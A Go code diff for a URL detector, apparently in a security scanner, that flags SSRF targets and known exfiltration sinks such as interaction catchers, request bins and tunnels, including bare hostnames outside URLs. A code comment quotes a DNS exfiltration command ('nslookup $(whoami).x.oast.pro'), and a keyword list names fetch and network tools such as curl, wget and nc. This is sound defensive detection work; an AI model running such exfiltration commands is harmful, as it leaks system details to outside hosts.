@@ -29,6 +29,16 @@ var urlConfidence = map[string]float64{
 
 	"known_bad_host":   0.95,
 	"known_bad_domain": 0.9,
+
+	// The shipped list's kinds (package urllist, default.txt): a vendor's
+	// test page exists to be blocked; an interaction catcher is where a
+	// planted request reports; a request bin also debugs webhooks, and a
+	// tunnel also demos a laptop's server, so those two stay below the
+	// block threshold.
+	urllist.KindTestURL:        0.95,
+	urllist.KindOOBSink:        0.9,
+	urllist.KindRequestCatcher: 0.7,
+	urllist.KindTunnelHost:     0.5,
 }
 
 // specialSchemes are the URL schemes whose URLs are looked at: those a
@@ -54,8 +64,11 @@ var rebindingDomains = []string{"nip.io", "sslip.io", "xip.io", "localtest.me", 
 // urlDetector adds the ssrf and known_bad_url signals of every URL in
 // the text.
 type urlDetector struct {
-	// list is the known_bad_url list; nil means none.
+	// list is the operator's known_bad_url list; nil means none.
 	list *urllist.List
+	// defaults is the shipped list (urllist.Default); nil when the
+	// operator turned it off.
+	defaults *urllist.List
 	// addrs classifies addresses for the ssrf class.
 	addrs addressClassifier
 }
@@ -75,7 +88,19 @@ func (d urlDetector) detect(_ context.Context, in *input, addHit func(hit)) erro
 	}
 	memo := map[string]verdict{}
 	const maxMemo = 1024
+	// Names under the shipped list's entries are also read outside URLs
+	// (DNS exfiltration writes "nslookup $(whoami).x.oast.pro"), in the
+	// text between the URLs.
+	bareFrom := 0
+	bare := func(from, to int) {
+		if d.defaults == nil || from >= to {
+			return
+		}
+		findBareSinks(text, from, to, d.defaults, func(kind string, start, end int) { add(KnownBadURL, kind, start, end) })
+	}
 	findURLs(text, func(u foundURL) {
+		bare(bareFrom, u.start)
+		bareFrom = max(bareFrom, u.end)
 		v, seen := memo[u.host]
 		if !seen {
 			h := urlhost.Parse(u.host)
@@ -84,6 +109,9 @@ func (d urlDetector) detect(_ context.Context, in *input, addHit func(hit)) erro
 				v.ssrf, v.obfuscated = d.classifyHost(h), h.Obfuscated
 				if d.list != nil {
 					v.bad = d.list.Match(h.Name, h.Addr)
+				}
+				if v.bad == "" && d.defaults != nil {
+					v.bad = d.defaults.Match(h.Name, h.Addr)
 				}
 			}
 			if len(memo) < maxMemo {
@@ -103,12 +131,105 @@ func (d urlDetector) detect(_ context.Context, in *input, addHit func(hit)) erro
 			add(KnownBadURL, v.bad, u.start, u.end)
 		}
 	})
+	bare(bareFrom, len(text))
 	findBareAddresses(text, func(start, end int, a netip.Addr) {
-		if cat := d.addrs.ClassifyAddr(a); cat == catMetadata || cat == catLinkLocal {
+		if cat := d.addrs.ClassifyAddr(a); (cat == catMetadata || cat == catLinkLocal) && addressInAction(text, start, end) {
 			add(SSRF, string(cat), start, end)
 		}
 	})
 	return nil
+}
+
+// actionWords are the words that, shortly before a bare address on its
+// line, make it the object of a request: a fetch command or tool, or an
+// imperative to go there.
+var actionWords = map[string]bool{
+	"curl": true, "wget": true, "fetch": true, "get": true, "http_get": true, "http-get": true,
+	"request": true, "requests": true, "invoke-webrequest": true, "invoke-restmethod": true, "iwr": true, "irm": true,
+	"nc": true, "ncat": true, "telnet": true, "connect": true, "visit": true, "open": true, "load": true,
+	"browse": true, "navigate": true, "download": true, "query": true, "call": true, "ping": true,
+	"url": true, "uri": true, "endpoint": true, "base_url": true, "target": true,
+}
+
+// addressInAction reports whether the bare address at text[start:end] is
+// something to reach, not something named (issue 27: "AWS exposes
+// instance metadata at 169.254.169.254; never let a tool fetch it" is
+// documentation, not SSRF): it is a scheme-less URL (a path or a port
+// follows), the value of an assignment or a key ("url=…", `"host":
+// "…"`), or a fetch command or imperative stands before it on its line,
+// within 48 bytes.
+func addressInAction(text string, start, end int) bool {
+	if end+1 < len(text) && (text[end] == '/' && text[end+1] > ' ' || text[end] == ':' && isDigit(text[end+1])) {
+		return true
+	}
+	from := max(0, start-48)
+	if k := strings.LastIndexAny(text[from:start], "\n\r"); k >= 0 {
+		from += k + 1
+	}
+	before := strings.TrimRight(text[from:start], " \t\"'`")
+	if strings.HasSuffix(before, "=") || strings.HasSuffix(before, ":") && strings.ContainsAny(text[from:start], "\"'") {
+		return true
+	}
+	for w := range strings.FieldsFuncSeq(before, func(r rune) bool {
+		return !(r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r >= '0' && r <= '9' || r == '_' || r == '-')
+	}) {
+		if len(w) <= 17 && actionWords[strings.ToLower(w)] {
+			return true
+		}
+	}
+	return false
+}
+
+// isHostByte reports whether b may be part of a host name written in
+// text.
+func isHostByte(b byte) bool { return isAlnum(b) || b == '-' || b == '.' }
+
+// findBareSinks finds, in text[from:to], names outside URLs that fall
+// under an entry of the shipped list l, and passes each one's kind and
+// span to fn. A bare name counts when it is a subdomain of the entry
+// ("k2n8x.oastify.com": interaction catchers hand out such names, and
+// prose that merely names the service writes the entry alone) or when a
+// path follows it ("webhook.site/0e6…"); tunnels count only in URLs. Each
+// byte is read a bounded number of times: the scan jumps from dot to dot
+// and never goes back before the end of the last name.
+func findBareSinks(text string, from, to int, l *urllist.List, fn func(kind string, start, end int)) {
+	i := from
+	for i < to {
+		k := strings.IndexByte(text[i:to], '.')
+		if k < 0 {
+			return
+		}
+		dot := i + k
+		s := dot
+		for s > i && dot-s < 253 && isHostByte(text[s-1]) {
+			s--
+		}
+		e := dot + 1
+		for e < to && e-s < 253 && isHostByte(text[e]) {
+			e++
+		}
+		i = e
+		name := strings.Trim(text[s:e], ".-")
+		if strings.IndexByte(name, '.') < 0 || s > 0 && (text[s-1] >= 0x80 || text[s-1] == '_') || e < len(text) && text[e] >= 0x80 {
+			continue
+		}
+		start := s + strings.Index(text[s:e], name)
+		end := start + len(name)
+		lower := name
+		for j := 0; j < len(name); j++ {
+			if isUpper(name[j]) {
+				lower = strings.ToLower(name)
+				break
+			}
+		}
+		kind, entry := l.MatchZone(lower)
+		if kind == "" || kind == urllist.KindTunnelHost {
+			continue
+		}
+		if len(lower) > len(entry) || end+1 < len(text) && text[end] == '/' && text[end+1] > ' ' {
+			fn(kind, start, end)
+		}
+	}
 }
 
 // classifyHost returns the ssrf kind of a parsed host, "" for none.
